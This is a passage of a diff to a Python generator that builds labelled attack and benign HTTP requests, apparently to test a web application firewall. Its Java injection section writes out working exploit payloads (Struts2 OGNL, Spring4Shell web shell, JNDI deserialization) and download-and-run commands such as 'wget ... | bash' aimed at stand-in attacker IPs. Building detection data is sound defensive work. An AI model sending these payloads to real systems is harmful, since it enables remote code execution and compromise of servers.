@@ -127,18 +127,42 @@ HERE = os.path.dirname(os.path.abspath(__file__))
 OUT = os.path.join(HERE, "waf_unseen_twelfth.jsonl")
 
 ATTACK_CATS = [
-    "java_injection", "php_injection", "code_injection", "rfi", "ssrf", "rce",
-    "sqli", "nosqli", "ldapi", "ssti", "crlf", "mail_injection", "xss",
-    "path_traversal", "xxe", "log4shell",
+    "java_injection",
+    "php_injection",
+    "code_injection",
+    "rfi",
+    "ssrf",
+    "rce",
+    "sqli",
+    "nosqli",
+    "ldapi",
+    "ssti",
+    "crlf",
+    "mail_injection",
+    "xss",
+    "path_traversal",
+    "xxe",
+    "log4shell",
 ]
 BENIGN_KINDS = [
-    "benign_richtext", "benign_markdown", "benign_code", "benign_search",
-    "benign_graphql", "benign_files", "benign_urls", "benign_base64",
-    "benign_api_json", "benign_forms", "benign_headers", "benign_email",
-    "benign_config", "benign_templates", "benign_logs",
+    "benign_richtext",
+    "benign_markdown",
+    "benign_code",
+    "benign_search",
+    "benign_graphql",
+    "benign_files",
+    "benign_urls",
+    "benign_base64",
+    "benign_api_json",
+    "benign_forms",
+    "benign_headers",
+    "benign_email",
+    "benign_config",
+    "benign_templates",
+    "benign_logs",
 ]
 
-MARK = "\u00a7P\u00a7"   # value marker inside templates
+MARK = "\u00a7P\u00a7"  # value marker inside templates
 KMARK = "\u00a7K\u00a7"  # key marker inside templates
 
 # --------------------------------------------------------------------------
@@ -156,7 +180,7 @@ MUST = {
 BROWSER = {
     "query": set("\"'<>`{}|\\^"),
     "form": set(),
-    "path": set("\"<>`{}|^"),
+    "path": set('"<>`{}|^'),
     "cookie": set(),
 }
 
@@ -424,15 +448,36 @@ def java_ser(classes, strings=()):
 # clients and headers
 # --------------------------------------------------------------------------
 HOSTS = [
-    "shop.example.com", "www.example.org", "portal.acme-corp.example", "app.northwind.test",
-    "intranet.contoso.test", "store.fabrikam.example", "crm.globex.test", "helpdesk.initech.example",
-    "blog.example.net", "docs.example.com", "wiki.umbrella.test", "my.bankofexample.test",
-    "cms.hooli.example", "jobs.example.org", "forum.example.net", "learn.wayne-ent.test",
-    "booking.example.com", "admin.tyrell.example", "status.example.net", "git.initech.example",
+    "shop.example.com",
+    "www.example.org",
+    "portal.acme-corp.example",
+    "app.northwind.test",
+    "intranet.contoso.test",
+    "store.fabrikam.example",
+    "crm.globex.test",
+    "helpdesk.initech.example",
+    "blog.example.net",
+    "docs.example.com",
+    "wiki.umbrella.test",
+    "my.bankofexample.test",
+    "cms.hooli.example",
+    "jobs.example.org",
+    "forum.example.net",
+    "learn.wayne-ent.test",
+    "booking.example.com",
+    "admin.tyrell.example",
+    "status.example.net",
+    "git.initech.example",
 ]
 API_HOSTS = [
-    "api.example.com", "api.acme-corp.example", "gateway.northwind.test", "api.fabrikam.example",
-    "rest.globex.test", "graphql.hooli.example", "svc.initech.example", "api.example.org",
+    "api.example.com",
+    "api.acme-corp.example",
+    "gateway.northwind.test",
+    "api.fabrikam.example",
+    "rest.globex.test",
+    "graphql.hooli.example",
+    "svc.initech.example",
+    "api.example.org",
 ]
 UAS = {
     "chrome": [
@@ -463,27 +508,64 @@ UAS = {
     ],
 }
 API_UAS = [
-    ("okhttp/4.12.0", "java"), ("axios/1.7.7", "node"), ("PostmanRuntime/7.42.0", "node"),
-    ("Dart/3.5 (dart:io)", "dart"), ("Acme/5.12.0 (iPhone; iOS 18.1; Scale/3.00)", "ios"),
-    ("Apache-HttpClient/5.3.1 (Java/21.0.5)", "java"), ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "node"),
-    ("Faraday v2.12.0", "ruby"), ("HTTPie/3.2.4", "py"), ("insomnia/10.1.1", "node"),
-    ("ReactorNetty/1.1.23", "java"), ("NorthwindSync/2.4.1 (+https://northwind.test/bot)", "go"),
-    ("Microsoft.Graph/1.0 (.NET 8.0.10)", "net"), ("undici", "node"),
+    ("okhttp/4.12.0", "java"),
+    ("axios/1.7.7", "node"),
+    ("PostmanRuntime/7.42.0", "node"),
+    ("Dart/3.5 (dart:io)", "dart"),
+    ("Acme/5.12.0 (iPhone; iOS 18.1; Scale/3.00)", "ios"),
+    ("Apache-HttpClient/5.3.1 (Java/21.0.5)", "java"),
+    ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "node"),
+    ("Faraday v2.12.0", "ruby"),
+    ("HTTPie/3.2.4", "py"),
+    ("insomnia/10.1.1", "node"),
+    ("ReactorNetty/1.1.23", "java"),
+    ("NorthwindSync/2.4.1 (+https://northwind.test/bot)", "go"),
+    ("Microsoft.Graph/1.0 (.NET 8.0.10)", "net"),
+    ("undici", "node"),
 ]
 TOOL_UAS = [
-    ("curl/8.5.0", "curl"), ("curl/7.88.1", "curl"), ("curl/8.11.0", "curl"),
-    ("python-requests/2.31.0", "py"), ("python-requests/2.32.3", "py"),
-    ("Go-http-client/1.1", "go"), ("Go-http-client/2.0", "go"), ("Wget/1.21.4", "wget"),
+    ("curl/8.5.0", "curl"),
+    ("curl/7.88.1", "curl"),
+    ("curl/8.11.0", "curl"),
+    ("python-requests/2.31.0", "py"),
+    ("python-requests/2.32.3", "py"),
+    ("Go-http-client/1.1", "go"),
+    ("Go-http-client/2.0", "go"),
+    ("Wget/1.21.4", "wget"),
     ("python-httpx/0.27.2", "py"),
 ]
 LANGS = [
-    "en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "fr-FR,fr;q=0.9,en;q=0.8",
-    "es-ES,es;q=0.9,en;q=0.8", "ja,en-US;q=0.9,en;q=0.8", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7",
-    "nl-NL,nl;q=0.9,en;q=0.8", "en-US,en;q=0.5", "it-IT,it;q=0.9,en-US;q=0.8", "pl-PL,pl;q=0.9,en;q=0.8",
-    "sv-SE,sv;q=0.9,en-US;q=0.8,en;q=0.7", "en-IN,en;q=0.9,hi;q=0.8", "ko-KR,ko;q=0.9,en-US;q=0.8",
+    "en-US,en;q=0.9",
+    "en-GB,en;q=0.9",
+    "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
+    "fr-FR,fr;q=0.9,en;q=0.8",
+    "es-ES,es;q=0.9,en;q=0.8",
+    "ja,en-US;q=0.9,en;q=0.8",
+    "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7",
+    "nl-NL,nl;q=0.9,en;q=0.8",
+    "en-US,en;q=0.5",
+    "it-IT,it;q=0.9,en-US;q=0.8",
+    "pl-PL,pl;q=0.9,en;q=0.8",
+    "sv-SE,sv;q=0.9,en-US;q=0.8,en;q=0.7",
+    "en-IN,en;q=0.9,hi;q=0.8",
+    "ko-KR,ko;q=0.9,en-US;q=0.8",
 ]
-REFERER_PATHS = ["/", "/account", "/dashboard", "/search", "/products", "/settings/profile", "/admin/",
-                 "/help", "/blog/", "/cart", "/orders", "/projects/42", "/inbox", "/docs/getting-started"]
+REFERER_PATHS = [
+    "/",
+    "/account",
+    "/dashboard",
+    "/search",
+    "/products",
+    "/settings/profile",
+    "/admin/",
+    "/help",
+    "/blog/",
+    "/cart",
+    "/orders",
+    "/projects/42",
+    "/inbox",
+    "/docs/getting-started",
+]
 NAV_ACCEPT = {
     "chrome": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
     "edge": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
@@ -499,7 +581,14 @@ def browser_headers(host, method, ctype, nav):
     if nav:
         h["Accept"] = NAV_ACCEPT[fam]
     else:
-        h["Accept"] = R.choice(["application/json, text/plain, */*", "*/*", "application/json", "application/json, text/javascript, */*; q=0.01"])
+        h["Accept"] = R.choice(
+            [
+                "application/json, text/plain, */*",
+                "*/*",
+                "application/json",
+                "application/json, text/javascript, */*; q=0.01",
+            ]
+        )
     h["Accept-Language"] = R.choice(LANGS)
     h["Accept-Encoding"] = "gzip, deflate, br" if fam == "safari" else "gzip, deflate, br, zstd"
     if ctype:
@@ -522,8 +611,19 @@ def browser_headers(host, method, ctype, nav):
 
 def api_headers(host, method, ctype):
     ua, client = R.choice(API_UAS)
-    h = {"Host": host, "User-Agent": ua,
-         "Accept": R.choice(["application/json", "application/json", "application/json, text/plain, */*", "*/*", "application/vnd.api+json"])}
+    h = {
+        "Host": host,
+        "User-Agent": ua,
+        "Accept": R.choice(
+            [
+                "application/json",
+                "application/json",
+                "application/json, text/plain, */*",
+                "*/*",
+                "application/vnd.api+json",
+            ]
+        ),
+    }
     r = R.random()
     if r < 0.6:
         h["Authorization"] = "Bearer " + fake_jwt(alg=R.choice(["HS256", "RS256"]))
@@ -558,7 +658,11 @@ def boundary_for(fam_or_client):
     if c in ("chrome", "edge", "android", "safari"):
         return "----WebKitFormBoundary" + rand_alnum(16)
     if c == "firefox":
-        return "----geckoformboundary" + rand_hex(32) if R.random() < 0.5 else "-" * 27 + "".join(R.choice(string.digits) for _ in range(29))
+        return (
+            "----geckoformboundary" + rand_hex(32)
+            if R.random() < 0.5
+            else "-" * 27 + "".join(R.choice(string.digits) for _ in range(29))
+        )
     if c == "curl":
         return "-" * 22 + rand_hex(16)
     if c == "py":
@@ -587,16 +691,82 @@ def multipart_body(parts, boundary):
     return "".join(out)
 
 
-QFILL = ["page=1", "page=2", "lang=en", "sort=relevance", "limit=20", "per_page=50", "utm_source=newsletter",
-         "utm_medium=email", "ref=nav", "view=grid", "format=json", "v=2", "tab=overview", "locale=en_US",
-         "_=%d" % 1765090000123, "offset=0", "debug=false", "include=author", "region=eu-west-1", "currency=EUR"]
-FFILL = [("csrf_token", None), ("_token", None), ("remember", "on"), ("locale", "en"), ("submit", "Save"),
-         ("redirect", "/dashboard"), ("action", "update"), ("step", "2"), ("source", "web")]
-JFILL = [("locale", "en-US"), ("client", "web"), ("version", 2), ("dryRun", False), ("requestId", None),
-         ("timezone", "Europe/Berlin"), ("source", "dashboard"), ("page", 1), ("includeArchived", False)]
-NEST = ["data", "attributes", "payload", "settings", "config", "spec", "options", "filters", "meta", "params",
-        "input", "body", "item", "details", "context", "profile", "extra", "rule", "condition", "value", "args",
-        "fields", "properties", "query", "criteria", "step", "action", "template", "node", "children"]
+QFILL = [
+    "page=1",
+    "page=2",
+    "lang=en",
+    "sort=relevance",
+    "limit=20",
+    "per_page=50",
+    "utm_source=newsletter",
+    "utm_medium=email",
+    "ref=nav",
+    "view=grid",
+    "format=json",
+    "v=2",
+    "tab=overview",
+    "locale=en_US",
+    "_=%d" % 1765090000123,
+    "offset=0",
+    "debug=false",
+    "include=author",
+    "region=eu-west-1",
+    "currency=EUR",
+]
+FFILL = [
+    ("csrf_token", None),
+    ("_token", None),
+    ("remember", "on"),
+    ("locale", "en"),
+    ("submit", "Save"),
+    ("redirect", "/dashboard"),
+    ("action", "update"),
+    ("step", "2"),
+    ("source", "web"),
+]
+JFILL = [
+    ("locale", "en-US"),
+    ("client", "web"),
+    ("version", 2),
+    ("dryRun", False),
+    ("requestId", None),
+    ("timezone", "Europe/Berlin"),
+    ("source", "dashboard"),
+    ("page", 1),
+    ("includeArchived", False),
+]
+NEST = [
+    "data",
+    "attributes",
+    "payload",
+    "settings",
+    "config",
+    "spec",
+    "options",
+    "filters",
+    "meta",
+    "params",
+    "input",
+    "body",
+    "item",
+    "details",
+    "context",
+    "profile",
+    "extra",
+    "rule",
+    "condition",
+    "value",
+    "args",
+    "fields",
+    "properties",
+    "query",
+    "criteria",
+    "step",
+    "action",
+    "template",
+    "node",
+    "children",
+]
 
 
 def fill_value(v):
@@ -628,8 +798,16 @@ def generic_doc(param, deep, is_key, kval):
         doc[k] = fill_value(v) if v is not None else uuid4()
     inner = {KMARK: kval} if is_key else {param: MARK}
     if R.random() < 0.6:
-        k2, v2 = R.choice([("name", "Quarterly sync"), ("enabled", True), ("id", R.randint(100, 99999)),
-                           ("type", "custom"), ("priority", "normal"), ("tags", ["ops"])])
+        k2, v2 = R.choice(
+            [
+                ("name", "Quarterly sync"),
+                ("enabled", True),
+                ("id", R.randint(100, 99999)),
+                ("type", "custom"),
+                ("priority", "normal"),
+                ("tags", ["ops"]),
+            ]
+        )
         if k2 not in inner:
             inner[k2] = v2
             if R.random() < 0.5:
@@ -655,7 +833,9 @@ def choose_mode(hard, style):
     if style == "terse":
         return R.choice(["raw", "raw", "min"]) if not hard else R.choice(["mixed", "over", "full", "lower", "raw"])
     if style == "browser":
-        return ("min" if R.random() < 0.9 else "full") if not hard else R.choice(["min", "mixed", "over", "full", "lower"])
+        return (
+            ("min" if R.random() < 0.9 else "full") if not hard else R.choice(["min", "mixed", "over", "full", "lower"])
+        )
     return R.choice(["min", "full", "full", "lower"]) if not hard else R.choice(["mixed", "over", "full", "lower"])
 
 
@@ -740,7 +920,14 @@ def build(ctx, spec, style, benign=False):
             doc = substitute(json.loads(json.dumps(o["doc"])), pv, is_key)
         else:
             doc = substitute(generic_doc(param, o.get("deep", 0), is_key, o.get("kval", True)), pv, is_key)
-        ctype = o.get("ctype") or R.choice(["application/json", "application/json", "application/json;charset=UTF-8", "application/json; charset=utf-8"])
+        ctype = o.get("ctype") or R.choice(
+            [
+                "application/json",
+                "application/json",
+                "application/json;charset=UTF-8",
+                "application/json; charset=utf-8",
+            ]
+        )
         fparts = ("json", doc)
         if extra_q:
             query = extra_q
@@ -778,11 +965,19 @@ def build(ctx, spec, style, benign=False):
             if mp == "field":
                 pt = {"name": param, "value": MARK}
             elif mp == "file":
-                pt = {"name": o.get("field", "file"), "filename": o.get("fname", "notes.txt"),
-                      "ctype": o.get("fctype", "text/plain"), "value": MARK}
+                pt = {
+                    "name": o.get("field", "file"),
+                    "filename": o.get("fname", "notes.txt"),
+                    "ctype": o.get("fctype", "text/plain"),
+                    "value": MARK,
+                }
             else:
-                pt = {"name": o.get("field", "file"), "filename": MARK,
-                      "ctype": o.get("fctype", "text/plain"), "value": o.get("fcontent", "hello\n")}
+                pt = {
+                    "name": o.get("field", "file"),
+                    "filename": MARK,
+                    "ctype": o.get("fctype", "text/plain"),
+                    "value": o.get("fcontent", "hello\n"),
+                }
             parts.insert(R.randint(0, len(parts)), pt)
         for pt in parts:
             for kk in ("value", "filename"):
@@ -815,11 +1010,15 @@ def build(ctx, spec, style, benign=False):
         if o.get("whole"):
             body = p
         else:
-            tmpl = o.get("xml") or ('<?xml version="1.0" encoding="UTF-8"?>\n<request>\n  <id>%d</id>\n  <%s>%s</%s>\n</request>\n'
-                                    % (R.randint(1000, 99999), param, MARK, param))
+            tmpl = o.get("xml") or (
+                '<?xml version="1.0" encoding="UTF-8"?>\n<request>\n  <id>%d</id>\n  <%s>%s</%s>\n</request>\n'
+                % (R.randint(1000, 99999), param, MARK, param)
+            )
             xm = o.get("xmode") or (R.choice(["std", "ref", "cdata"]) if hard else R.choice(["std", "std", "cdata"]))
             body = tmpl.replace(MARK, xesc(p, xm))
-        ctype = o.get("ctype") or R.choice(["application/xml", "text/xml; charset=utf-8", "application/xml; charset=UTF-8"])
+        ctype = o.get("ctype") or R.choice(
+            ["application/xml", "text/xml; charset=utf-8", "application/xml; charset=UTF-8"]
+        )
         nav = False
         if extra_q:
             query = extra_q
@@ -865,8 +1064,15 @@ def build(ctx, spec, style, benign=False):
         headers["Cookie"] = "; ".join(cookies)
     for k in ("Host", "User-Agent", "Accept"):
         assert k in headers
-    return {"method": method, "path": path, "query": query, "headers": headers, "body": body,
-            "placement": pl, "payload": payload}
+    return {
+        "method": method,
+        "path": path,
+        "query": query,
+        "headers": headers,
+        "body": body,
+        "placement": pl,
+        "payload": payload,
+    }
 
 
 def walk(v, keys, vals):
@@ -942,124 +1148,391 @@ CTX = {}
 
 # ---------------------------------------------------------------- java
 CTX["java_injection"] = dict(
-    eps=["/app/search", "/portal/profile", "/api/v1/rules/evaluate", "/workflow/preview", "/struts2-showcase/index.action",
-         "/api/reports/render", "/admin/settings", "/cms/page/preview", "/login.action", "/api/v2/import"],
-    params=["expr", "name", "message", "filter", "template", "q", "redirectUrl", "label", "condition", "value"])
+    eps=[
+        "/app/search",
+        "/portal/profile",
+        "/api/v1/rules/evaluate",
+        "/workflow/preview",
+        "/struts2-showcase/index.action",
+        "/api/reports/render",
+        "/admin/settings",
+        "/cms/page/preview",
+        "/login.action",
+        "/api/v2/import",
+    ],
+    params=["expr", "name", "message", "filter", "template", "q", "redirectUrl", "label", "condition", "value"],
+)
 
-_ser1 = base64.b64encode(java_ser(["java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator",
-                                   "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"], ["touch /tmp/cb1"])).decode()
-_ser3 = base64.b64encode(gzip.compress(java_ser(["java.util.HashMap", "java.net.URL"], ["http://kq3v9.oast.example/"]), mtime=0)).decode()
-_ser4 = java_ser(["sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.functors.ConstantTransformer",
-                  "org.apache.commons.collections.functors.InstantiateTransformer"], ["curl 198.51.100.14/s|sh"]).hex()
+_ser1 = base64.b64encode(
+    java_ser(
+        [
+            "java.util.PriorityQueue",
+            "org.apache.commons.beanutils.BeanComparator",
+            "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
+        ],
+        ["touch /tmp/cb1"],
+    )
+).decode()
+_ser3 = base64.b64encode(
+    gzip.compress(java_ser(["java.util.HashMap", "java.net.URL"], ["http://kq3v9.oast.example/"]), mtime=0)
+).decode()
+_ser4 = java_ser(
+    [
+        "sun.reflect.annotation.AnnotationInvocationHandler",
+        "org.apache.commons.collections.functors.ConstantTransformer",
+        "org.apache.commons.collections.functors.InstantiateTransformer",
+    ],
+    ["curl 198.51.100.14/s|sh"],
+).hex()
 
 JAVA = [
-    A('%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec("id"))}.multipart/form-data', "header",
-      hdr="Content-Type", method="POST", ep="/struts2-showcase/fileupload/doUpload.action"),
-    A('T(java.lang.Runtime).getRuntime().exec("touch /tmp/scf-probe")', "header", hdr="spring.cloud.function.routing-expression",
-      method="POST", ep="/functionRouter", body=("text/plain", "hello")),
-    A("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "form", key=True, ep="/greeting",
-      kval='%{prefix}i java.io.InputStream in = %{c}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); %{suffix}i'),
-    A("class.module.classLoader.resources.context.parent.pipeline.first.suffix", "query_key", kval=".jsp", ep="/app/account"),
-    A("class.classLoader.URLs[0]", "form", key=True, kval="jar:http://198.51.100.23:8000/spring-exploit.jar!/", ep="/register.htm"),
-    A('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.9:1389/Basic/Command/id","autoCommit":true}', "json",
-      jobj=True, param="extra", ep="/api/v1/orders"),
-    A('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM \'http://203.0.113.9/inj.sql\'"}]',
-      "json", jobj=True, param="source", ep="/api/v2/import"),
+    A(
+        '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec("id"))}.multipart/form-data',
+        "header",
+        hdr="Content-Type",
+        method="POST",
+        ep="/struts2-showcase/fileupload/doUpload.action",
+    ),
+    A(
+        'T(java.lang.Runtime).getRuntime().exec("touch /tmp/scf-probe")',
+        "header",
+        hdr="spring.cloud.function.routing-expression",
+        method="POST",
+        ep="/functionRouter",
+        body=("text/plain", "hello"),
+    ),
+    A(
+        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
+        "form",
+        key=True,
+        ep="/greeting",
+        kval='%{prefix}i java.io.InputStream in = %{c}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); %{suffix}i',
+    ),
+    A(
+        "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
+        "query_key",
+        kval=".jsp",
+        ep="/app/account",
+    ),
+    A(
+        "class.classLoader.URLs[0]",
+        "form",
+        key=True,
+        kval="jar:http://198.51.100.23:8000/spring-exploit.jar!/",
+        ep="/register.htm",
+    ),
+    A(
+        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.9:1389/Basic/Command/id","autoCommit":true}',
+        "json",
+        jobj=True,
+        param="extra",
+        ep="/api/v1/orders",
+    ),
+    A(
+        '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM \'http://203.0.113.9/inj.sql\'"}]',
+        "json",
+        jobj=True,
+        param="source",
+        ep="/api/v2/import",
+    ),
     A(_ser1, "cookie", ck="user_prefs", ep="/portal/home"),
-    A('<map>\n  <entry>\n    <jdk.nashorn.internal.objects.NativeString>\n      <flags>0</flags>\n      <value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">\n'
-      '        <dataHandler>\n          <dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">\n'
-      '            <is class="javax.crypto.CipherInputStream">\n              <cipher class="javax.crypto.NullCipher">\n'
-      '                <serviceIterator class="javax.imageio.spi.FilterIterator">\n                  <iter class="java.util.ArrayList$Itr"/>\n'
-      '                  <next class="java.lang.ProcessBuilder">\n                    <command><string>/bin/sh</string><string>-c</string><string>id &gt; /tmp/xs</string></command>\n'
-      '                  </next>\n                </serviceIterator>\n              </cipher>\n            </is>\n          </dataSource>\n'
-      '        </dataHandler>\n      </value>\n    </jdk.nashorn.internal.objects.NativeString>\n    <string>k</string>\n  </entry>\n</map>\n',
-      "xml", whole=True, ep="/rest/api/orders", ctype="application/xml"),
-    A('<?xml version="1.0" encoding="utf-8"?>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">\n<soapenv:Header>\n'
-      '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">\n<java version="1.8.0_151" class="java.beans.XMLDecoder">\n'
-      '<object class="java.lang.ProcessBuilder">\n<array class="java.lang.String" length="3">\n<void index="0"><string>/bin/bash</string></void>\n'
-      '<void index="1"><string>-c</string></void>\n<void index="2"><string>wget -q http://198.51.100.44/w.sh -O- | bash</string></void>\n'
-      '</array>\n<void method="start"/>\n</object>\n</java>\n</work:WorkContext>\n</soapenv:Header>\n<soapenv:Body/>\n</soapenv:Envelope>\n',
-      "xml", whole=True, ep="/wls-wsat/CoordinatorPortType", ctype="text/xml; charset=utf-8"),
-    A('!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL ["http://203.0.113.50:8080/yaml-payload.jar"]\n  ]]\n]\n',
-      "multipart", mp="file", fname="pipeline.yml", fctype="application/x-yaml", field="config", ep="/api/pipelines/import"),
+    A(
+        '<map>\n  <entry>\n    <jdk.nashorn.internal.objects.NativeString>\n      <flags>0</flags>\n      <value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">\n'
+        '        <dataHandler>\n          <dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">\n'
+        '            <is class="javax.crypto.CipherInputStream">\n              <cipher class="javax.crypto.NullCipher">\n'
+        '                <serviceIterator class="javax.imageio.spi.FilterIterator">\n                  <iter class="java.util.ArrayList$Itr"/>\n'
+        '                  <next class="java.lang.ProcessBuilder">\n                    <command><string>/bin/sh</string><string>-c</string><string>id &gt; /tmp/xs</string></command>\n'
+        "                  </next>\n                </serviceIterator>\n              </cipher>\n            </is>\n          </dataSource>\n"
+        "        </dataHandler>\n      </value>\n    </jdk.nashorn.internal.objects.NativeString>\n    <string>k</string>\n  </entry>\n</map>\n",
+        "xml",
+        whole=True,
+        ep="/rest/api/orders",
+        ctype="application/xml",
+    ),
+    A(
+        '<?xml version="1.0" encoding="utf-8"?>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">\n<soapenv:Header>\n'
+        '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">\n<java version="1.8.0_151" class="java.beans.XMLDecoder">\n'
+        '<object class="java.lang.ProcessBuilder">\n<array class="java.lang.String" length="3">\n<void index="0"><string>/bin/bash</string></void>\n'
+        '<void index="1"><string>-c</string></void>\n<void index="2"><string>wget -q http://198.51.100.44/w.sh -O- | bash</string></void>\n'
+        '</array>\n<void method="start"/>\n</object>\n</java>\n</work:WorkContext>\n</soapenv:Header>\n<soapenv:Body/>\n</soapenv:Envelope>\n',
+        "xml",
+        whole=True,
+        ep="/wls-wsat/CoordinatorPortType",
+        ctype="text/xml; charset=utf-8",
+    ),
+    A(
+        '!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL ["http://203.0.113.50:8080/yaml-payload.jar"]\n  ]]\n]\n',
+        "multipart",
+        mp="file",
+        fname="pipeline.yml",
+        fctype="application/x-yaml",
+        field="config",
+        ep="/api/pipelines/import",
+    ),
     A('println "cat /etc/passwd".execute().text', "form", param="script", ep="/scriptText"),
-    A('${pageContext.request.getSession().setAttribute("x",Runtime.getRuntime().exec("id"))}', "query", param="message", ep="/portal/notify.jsp"),
-    A('#{request.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("whoami")}', "form",
-      param="displayName", ep="/faces/profile.xhtml"),
-    A("new java.lang.ProcessBuilder({'/bin/sh','-c','id > /tmp/spel'}).start()", "json", param="expression", deep=4, ep="/api/v1/rules/evaluate"),
-    A("#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}",
-      "json", ep="/actuator/gateway/routes/new_route", method="POST",
-      doc={"id": "new_route", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": MARK}}], "uri": "http://example.com", "order": 0}),
+    A(
+        '${pageContext.request.getSession().setAttribute("x",Runtime.getRuntime().exec("id"))}',
+        "query",
+        param="message",
+        ep="/portal/notify.jsp",
+    ),
+    A(
+        '#{request.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("whoami")}',
+        "form",
+        param="displayName",
+        ep="/faces/profile.xhtml",
+    ),
+    A(
+        "new java.lang.ProcessBuilder({'/bin/sh','-c','id > /tmp/spel'}).start()",
+        "json",
+        param="expression",
+        deep=4,
+        ep="/api/v1/rules/evaluate",
+    ),
+    A(
+        '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"id"}).getInputStream()))}',
+        "json",
+        ep="/actuator/gateway/routes/new_route",
+        method="POST",
+        doc={
+            "id": "new_route",
+            "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": MARK}}],
+            "uri": "http://example.com",
+            "order": 0,
+        },
+    ),
     A("@{java.lang.Runtime.getRuntime().exec('whoami')}", "json", param="template", ep="/api/notifications/templates"),
     A("''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')", "query", param="expr", ep="/api/calc"),
-    A('load("nashorn:mozilla_compat.js"); importPackage(java.lang); Runtime.getRuntime().exec("id")', "json", param="condition", deep=2,
-      ep="/api/v1/workflows"),
-    A("jdbc:h2:mem:probe;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception{return new String(Runtime.getRuntime().exec(c).getInputStream().readAllBytes());}'\\;CALL EXEC('id')",
-      "json", param="jdbcUrl", ep="/api/admin/datasources"),
-    A('java.lang.Class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec(\'id\')")',
-      "multipart", mp="field", param="expression", ep="/workflow/preview"),
+    A(
+        'load("nashorn:mozilla_compat.js"); importPackage(java.lang); Runtime.getRuntime().exec("id")',
+        "json",
+        param="condition",
+        deep=2,
+        ep="/api/v1/workflows",
+    ),
+    A(
+        "jdbc:h2:mem:probe;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception{return new String(Runtime.getRuntime().exec(c).getInputStream().readAllBytes());}'\\;CALL EXEC('id')",
+        "json",
+        param="jdbcUrl",
+        ep="/api/admin/datasources",
+    ),
+    A(
+        'java.lang.Class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec(\'id\')")',
+        "multipart",
+        mp="field",
+        param="expression",
+        ep="/workflow/preview",
+    ),
     A('${@java.lang.Runtime@getRuntime().exec("touch /tmp/cfl")}', "path", pre="/", suf="/", ep="/"),
-    A("${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/t4s')}", "query", param="search", ep="/api/catalog/lookup"),
-    A('["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://198.51.100.7:1389/obj"}]', "json", jobj=True, param="converter",
-      ep="/api/v1/settings"),
-    A('!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "rmi://203.0.113.8:1099/Obj", autoCommit: true}', "json", param="yaml",
-      ep="/api/v2/config/validate"),
-    A('["org.springframework.context.support.FileSystemXmlApplicationContext","http://203.0.113.77/beans.xml"]', "json", jobj=True,
-      param="payload", ep="/api/events"),
-    A("CREATE ALIAS EXEC AS CONCAT('void e(String c) throws java.io.IOException {Runtime.getRuntime().exec(c);}');CALL EXEC('curl 198.51.100.3');",
-      "json", ep="/actuator/env", doc={"name": "spring.datasource.hikari.connection-test-query", "value": MARK}),
-    A("%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check',1337*1337)}.b", "multipart", mp="filename",
